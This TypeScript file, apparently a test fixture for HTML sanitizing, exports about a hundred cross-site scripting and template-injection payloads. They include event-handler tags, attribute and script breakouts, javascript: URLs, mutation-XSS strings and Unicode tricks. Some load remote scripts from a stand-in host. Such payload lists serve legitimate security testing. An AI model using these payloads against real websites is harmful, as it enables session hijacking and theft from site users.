/** What each of these calls, where a page takes it for more than text. */
const RUN = "__xss()";

/** Tags that run by themselves. */
const TAGS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//x.invalid/x.js></SCRIPT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<IMG SRC=x OnErRoR=${RUN}//`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x/>#x">`,
  `<svg><foreignObject><body onload=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<body onload=${RUN}>`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<base href=//x.invalid/>`,
  `<link rel=stylesheet href=//x.invalid/x.css>`,
  `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}>`,
  `<portal src=//x.invalid/>`,
  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<div style="background:url(//x.invalid/x.png)">x</div>`,
  `<style>@import "//x.invalid/x.css";</style>`,
  `<style>*{display:none!important}</style>`,
];

/** Ways out of an attribute, a comment, a text area, a script. */
const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `" autofocus onfocus="${RUN}" x="`,
  `\` onerror=${RUN}`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><img src=x onerror=${RUN}>`,
  `</template><img src=x onerror=${RUN}>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `]]><img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `"-${RUN}-"`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `"}],"x":"</script><img src=x onerror=${RUN}>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
];

/** What templates and frameworks might run. */
const TEMPLATES = [
  "${__xss()}",
  "`${__xss()}`",
  "{{constructor.constructor('__xss()')()}}",
  "{{7*7}}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{name}{agent}{subject}",
  "%7B%7B7*7%7D%7D",
  "[[${7*7}]]",
  "$&$1$`$'",
  "%s%d%n%c",
];

/** Addresses that run, or look like others. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
  `https://example.com/"onmouseover="${RUN}`,
  `https://example.com/'><img src=x onerror=${RUN}>`,
  `https://example.com\\@x.invalid/`,
  `http://x.invalid/<script>${RUN}</script>`,
  `mailto:a@example.com?body=<img src=x onerror=${RUN}>`,
];

/** Text that was meant for another reader of HTML, and comes out changed. */
const MUTATIONS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
];

/** Signs that hide, turn round or look like others. */
const SIGNS = [
  `\u202E<img src=x onerror=${RUN}>\u202C`,
  `\u2066\u202Etxt.exe\u2069<script>${RUN}</script>`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `<img\u00A0src=x\u00A0onerror=${RUN}>`,
  `<\u200Bscript>${RUN}</\u200Bscript>`,
  `\uFEFF<svg onload=${RUN}>x`,
  `a\u0301\u0302\u0303\u0304\u0305<img src=x onerror=${RUN}>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

/** A hundred texts that are nothing but texts. */
export const ATTACKS: readonly string[] = [
  ...TAGS,
  ...BREAKOUTS,
  ...TEMPLATES,
  ...ADDRESSES,
  ...MUTATIONS,
  ...SIGNS,
];
